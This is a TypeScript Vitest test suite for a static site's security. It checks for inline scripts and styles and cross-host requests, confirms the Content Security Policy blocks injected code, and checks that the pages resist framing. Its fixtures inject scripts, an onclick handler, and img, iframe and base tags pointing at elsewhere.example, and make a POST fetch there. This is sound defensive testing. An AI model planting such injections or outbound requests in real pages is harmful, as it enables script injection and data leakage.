import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, inject, onTestFinished, test } from 'vitest'
import { oneOfEachTemplate } from './built.ts'
import { readEveryFile } from './read.ts'
import { useBrowser } from './visit.ts'

const visit = useBrowser()

test('no HTML file holds an inline script, an inline style or code in an attribute', async () => {
  const { page } = await visit('about:blank')
  const found = await readEveryFile(page, (document) => {
    const dataTypes = ['application/json', 'application/ld+json']
    return [...document.querySelectorAll('*')].flatMap((element) => {
      const name = element.localName
      const isCode = name === 'script' && !dataTypes.includes(element.getAttribute('type') ?? '')
      return [
        ...(isCode && element.textContent ? ['an inline script'] : []),
        ...(name === 'style' ? ['a <style>'] : []),
        ...element.getAttributeNames().flatMap((attribute) => {
          const value = element.getAttribute(attribute)!
          return attribute === 'style' ||
            attribute.startsWith('on') ||
            /^\s*javascript:/i.test(value)
            ? [`${name} ${attribute}="${value}"`]
            : []
        }),
      ]
    })
  })
  expect(found.filter(({ read }) => read.length > 0)).toEqual([])
})

test('no HTML file asks for anything on another host', async () => {
  const { page } = await visit('about:blank')
  const found = await readEveryFile(page, (document) =>
    [...document.querySelectorAll('[src], [srcset], [action], link[href]')].flatMap((element) =>
      ['src', 'srcset', 'action', 'href']
        .map((name) => element.getAttribute(name) ?? '')
        // A canonical address and those of the other languages name pages and ask for nothing.
        .filter(
          (url) => /^(\w+:)?\/\//.test(url) && !element.matches('[rel=canonical], [hreflang]'),
        ),
    ),
  )
  expect(found.filter(({ read }) => read.length > 0)).toEqual([])
})

describe.each(oneOfEachTemplate)('on %s', (address) => {
  test('injected code does not run, and nothing can be sent to another host', async () => {
    const { page, requests } = await visit(address)
    const { blocked, ran, colour } = await page.evaluate(async () => {
      const blocked: string[] = []
      const before = getComputedStyle(document.body).color
      const add = (name: string, attributes: Record<string, string>, text = ''): void => {
        const element = document.createElement(name)
        try {
          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
          element.textContent = text
          document.body.append(element)
        } catch {
          // Words that would run are refused before they are set.
        }
      }
      const expected = 9
      const allBlocked = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (blocked.push(effectiveDirective) === expected) resolve()
        })
      })
      add('script', {}, 'window.ran = true')
      add('script', { src: 'https://elsewhere.example/x.js' })
      add('button', { id: 'injected', onclick: 'window.ran = true' })
      document.getElementById('injected')?.click()
      add('style', {}, 'body { color: lime }')
      document.body.setAttribute('style', 'color: lime')
      add('img', { src: 'https://elsewhere.example/x.png' })
      add('iframe', { src: 'https://elsewhere.example/' })
      add('base', { href: 'https://elsewhere.example/' })
      await fetch('https://elsewhere.example/', { method: 'POST', body: 'x' }).catch(() => {})
      // Where something is let through, the test need not wait for the rest of its minute to fail.
      await Promise.race([allBlocked, new Promise((resolve) => setTimeout(resolve, 5000))])
      return {
        blocked: blocked.sort(),
        ran: 'ran' in window,
        colour: { before, after: getComputedStyle(document.body).color },
      }
    })
    expect(blocked).toEqual([
      'base-uri',
      'connect-src',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'require-trusted-types-for',
      'require-trusted-types-for',
      'style-src-attr',
      'style-src-elem',
    ])
    expect(ran).toBe(false)
    expect(colour.after).toBe(colour.before)
    const elsewhere = requests.filter((request) => request.url().includes('elsewhere.example'))
    expect(elsewhere.map((request) => request.failure()?.errorText)).toEqual(
      elsewhere.map(() => 'csp'),
    )
  })
})

test('no other site can put a page in a frame', async () => {
  const frame = `<iframe src="${inject('site')}/about/"></iframe>`
  const other = createServer((_, response) => response.end(frame)).listen(0, 'localhost')
  onTestFinished(() => void other.close())
  await once(other, 'listening')
  const { port } = other.address() as AddressInfo
  const { page } = await visit(`http://localhost:${port}/`)
  const framed = page.frames()[1]!
  await framed.waitForLoadState()
  expect(framed.url()).toMatch(/^chrome-error:/)
  expect(await framed.getByRole('heading', { level: 1 }).count()).toBe(0)
})
